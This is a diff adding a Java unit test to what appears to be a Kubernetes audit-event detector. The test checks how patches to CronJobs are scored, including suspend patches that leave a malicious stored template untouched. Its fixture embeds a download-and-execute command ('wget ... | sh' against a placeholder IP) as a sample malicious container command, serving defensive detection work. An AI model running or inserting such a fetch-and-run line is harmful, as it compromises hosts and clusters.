@@ -90,6 +90,29 @@ class StoredObjectScoringTest {
     }
 
     @Test
+    void aPatchThatLeavesTheTemplateAloneIsNotJudgedAgainOnIt() {
+        // Suspending a CronJob whose stored template is malicious (remediation): the request changed no template.
+        String stored = storedCronJob("{\"name\":\"a\",\"image\":\"alpine\",\"command\":[\"sh\",\"-c\",\"wget -qO- http://203.0.113.66/s | sh\"]}");
+        WorkloadEvent suspend = single(event("patch", CJ_REF, "\"requestObject\":{\"spec\":{\"suspend\":true}},\"responseObject\":" + stored));
+        assertThat(suspend.templates()).isEmpty();
+        WorkloadEvent jsonSuspend = single(event("patch", CJ_REF,
+                "\"requestObject\":[{\"op\":\"replace\",\"path\":\"/spec/suspend\",\"value\":true}],\"responseObject\":" + stored));
+        assertThat(jsonSuspend.templates()).isEmpty();
+        // Anything on the template's way counts as touching it: a directive, the root, an op above the template.
+        for (String request : new String[] {
+                "{\"$patch\":\"replace\",\"spec\":{}}",
+                "{\"spec\":{\"$setElementOrder/x\":[],\"suspend\":false}}",
+                "{\"spec\":{\"jobTemplate\":{\"metadata\":{\"labels\":{\"a\":\"b\"}}}}}",
+                "[{\"op\":\"replace\",\"path\":\"\",\"value\":{}}]",
+                "[{\"op\":\"add\",\"path\":\"/spec\",\"value\":{}}]",
+                "[{\"op\":\"move\",\"from\":\"/spec/jobTemplate/spec\",\"path\":\"/metadata/x\"}]"}) {
+            WorkloadEvent e = single(event("patch", CJ_REF, "\"requestObject\":" + request + ",\"responseObject\":" + stored));
+            assertThat(e.templates()).as(request).extracting(PodTemplate::source).containsExactly("responseObject");
+            assertThat(score(e).alertable()).as(request).isTrue();
+        }
+    }
+
+    @Test
     void withoutAStoredTemplateTheRequestIsRead() {
         String patch = "\"requestObject\":{\"spec\":{\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":{\"hostNetwork\":true}}}}}}";
         // Level Request: no response at all.
